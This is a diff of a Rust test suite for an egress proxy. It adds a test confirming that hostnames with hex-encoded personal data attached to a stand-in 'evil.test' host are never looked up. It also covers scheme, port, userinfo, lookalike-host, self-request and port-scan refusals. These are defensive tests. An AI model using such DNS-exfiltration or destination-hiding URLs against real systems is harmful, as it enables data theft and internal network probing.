@@ -2,7 +2,7 @@
 //! refused by its rule, and the sink inside sees nobody.
 
 use wharf_domain::fault::Blame;
-use wharf_egress::{EgressConfig, Own};
+use wharf_egress::{EgressConfig, Own, Request};
 
 use crate::house::{get, grant, post};
 use crate::partner::{Partner, answer};
@@ -10,7 +10,7 @@ use crate::siege::Siege;
 
 #[tokio::test]
 async fn p12_d1_a_host_that_was_not_granted_is_not_even_looked_up() {
-    let siege = Siege::new().await;
+    let siege = Siege::of("D1").await;
     let (granted, port) = (siege.grant("carrier.test", true), siege.sink.port);
     for host in [
         "evilcarrier.test",
@@ -30,9 +30,31 @@ async fn p12_d1_a_host_that_was_not_granted_is_not_even_looked_up() {
     siege.held().await;
 }
 
+/// What a guest knows, it could spell into names and have looked up: one question to a name server is a message.
+#[tokio::test]
+async fn f8_a_name_that_carries_data_is_not_looked_up() {
+    let siege = Siege::of("F8").await;
+    let (granted, port) = (siege.grant("carrier.test", true), siege.sink.port);
+    let data = "4a6f686e20446f652c20486175707473747261c39f652031";
+    for host in [format!("{data}.evil.test"), format!("{data}.carrier.test"), format!("carrier.test.{data}.test")] {
+        siege.refuses_url(&granted, &format!("http://{host}:{port}/get/1"), "host-not-granted").await;
+        siege
+            .refuses(
+                &granted,
+                Request { url: format!("http://{host}:{port}/void"), ..post(&granted, "", "{}") },
+                "host-not-granted",
+            )
+            .await;
+    }
+    // Nor is the granted name itself, before everything else about the request is allowed.
+    siege.refuses_url(&granted, "http://carrier.test:1/get/1", "port").await;
+    assert_eq!(siege.names.asked(), 0);
+    siege.held().await;
+}
+
 #[tokio::test]
 async fn p12_d2_only_the_scheme_that_was_granted_is_spoken() {
-    let siege = Siege::new().await;
+    let siege = Siege::of("D2").await;
     let (mut granted, port) = (siege.grant("carrier.test", true), siege.sink.port);
     for scheme in ["https", "ftp", "gopher", "ws", "wss", "data", "javascript"] {
         siege.refuses_url(&granted, &format!("{scheme}://carrier.test:{port}/get/1"), "scheme").await;
@@ -50,7 +72,7 @@ async fn p12_d2_only_the_scheme_that_was_granted_is_spoken() {
 
 #[tokio::test]
 async fn p12_d3_only_the_port_that_was_granted_is_dialled() {
-    let siege = Siege::new().await;
+    let siege = Siege::of("D3").await;
     let mut granted = siege.grant("carrier.test", true);
     granted.origins[0].url = "http://carrier.test:9443".to_owned();
     for port in ["", ":80", ":443", ":22", &format!(":{}", siege.sink.port)] {
@@ -64,7 +86,7 @@ async fn p12_d3_only_the_port_that_was_granted_is_dialled() {
 
 #[tokio::test]
 async fn p12_d4_no_user_name_hides_where_a_request_goes() {
-    let siege = Siege::new().await;
+    let siege = Siege::of("D4").await;
     let (granted, port) = (siege.grant("carrier.test", true), siege.sink.port);
     for (url, rule) in [
         (format!("http://carrier.test:{port}@127.0.0.1:{port}/get/1"), "userinfo"),
@@ -82,7 +104,7 @@ async fn p12_d4_no_user_name_hides_where_a_request_goes() {
 
 #[tokio::test]
 async fn p12_d5_a_host_has_one_spelling_and_no_twin() {
-    let siege = Siege::new().await;
+    let siege = Siege::of("D5").await;
     let (granted, port) = (siege.grant("carrier.test", true), siege.sink.port);
     for (host, rule) in [
         ("carr\tier.test", "invalid-url"),
@@ -120,7 +142,7 @@ async fn p12_d19_the_host_does_not_call_itself() {
             ..EgressConfig::default()
         }
     };
-    let siege = Siege::with(own("0.0.0.0")).await;
+    let siege = Siege::with("D19", own("0.0.0.0")).await;
     for host in ["127.0.0.1", "localhost", "[::1]", "127.3.4.5", "alias.test", "wharf.test", "WHARF.test."] {
         let granted = siege.grant(host, true);
         siege.refuses(&granted, get(&granted, "/get/1"), "self-request").await;
@@ -134,7 +156,7 @@ async fn p12_d19_the_host_does_not_call_itself() {
     siege.send(&grant(&partner.url), get(&grant(&partner.url), "/get/1")).await.expect("next door");
     assert_eq!(partner.seen()[0].header("via"), Some("1.1 wharf-0123456789abcdef"));
 
-    let inner = Siege::with(own("127.0.0.1")).await;
+    let inner = Siege::with("D19", own("127.0.0.1")).await;
     let granted = inner.grant("alias.test", true);
     inner.refuses(&granted, get(&granted, "/get/1"), "self-request").await;
     inner.held().await;
@@ -142,7 +164,7 @@ async fn p12_d19_the_host_does_not_call_itself() {
 
 #[tokio::test]
 async fn p12_d21_a_grant_is_no_place_to_scan_from() {
-    let siege = Siege::new().await;
+    let siege = Siege::of("D21").await;
     let granted = siege.grant("carrier.test", true);
     for port in (1..=2_000).filter(|port| *port != siege.sink.port) {
         siege.refuses_url(&granted, &format!("http://carrier.test:{port}/get/1"), "port").await;
